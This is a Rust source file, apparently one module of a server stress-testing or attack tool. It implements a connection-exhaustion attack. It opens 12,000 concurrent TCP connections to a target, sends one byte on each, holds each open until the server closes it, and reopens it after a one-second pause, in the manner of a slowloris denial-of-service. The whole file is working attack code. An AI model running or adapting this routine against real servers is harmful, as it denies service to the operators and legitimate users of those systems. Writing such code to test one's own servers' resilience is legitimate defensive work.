//! Connections that begin and do not go on.

use std::time::Duration;

use anyhow::Result;
use futures_util::future::{LocalBoxFuture, join_all};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::sleep;

use crate::attack::{Attack, AttackTarget};
use crate::wire;

const CONNECTIONS: u64 = 12_000;
/// Between two attempts of one attacker.
const PAUSE: Duration = Duration::from_secs(1);

/// As many connections as the server takes, each of which has sent one byte.
pub(crate) struct ConnectionsAttack;

impl Attack for ConnectionsAttack {
    fn name(&self) -> &'static str {
        "connections"
    }

    fn has_token(&self) -> bool {
        false
    }

    fn run<'t>(&'t self, target: &'t AttackTarget) -> LocalBoxFuture<'t, Result<()>> {
        Box::pin(async move {
            join_all((0..CONNECTIONS).map(|number| keep(target, number))).await;
            Ok(())
        })
    }
}

/// Keeps one connection to the server, and opens it again whenever it is closed.
async fn keep(target: &AttackTarget, number: u64) {
    // One after the other: a burst would be lost before the server sees it.
    sleep(Duration::from_micros(50 * number)).await;
    loop {
        if let Ok(mut stream) = wire::connect(target).await {
            _ = stream.write_all(b"P").await;
            while stream.read(&mut [0; 64]).await.is_ok_and(|read| read > 0) {}
        }
        sleep(PAUSE).await;
    }
}
